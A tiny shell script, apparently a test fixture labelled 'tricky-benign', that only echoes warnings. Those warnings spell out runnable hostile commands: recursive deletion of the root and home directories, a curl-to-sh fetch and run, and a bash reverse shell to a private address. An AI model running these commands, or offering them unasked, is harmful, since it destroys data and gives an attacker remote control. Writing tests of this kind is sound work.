# tricky-benign: speaks of dangerous commands
cat <<'EOF'
Never run `rm -rf /` or `curl https://example.com/x | sh`.
A reverse shell looks like: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
EOF
echo "do not: rm -rf ~"
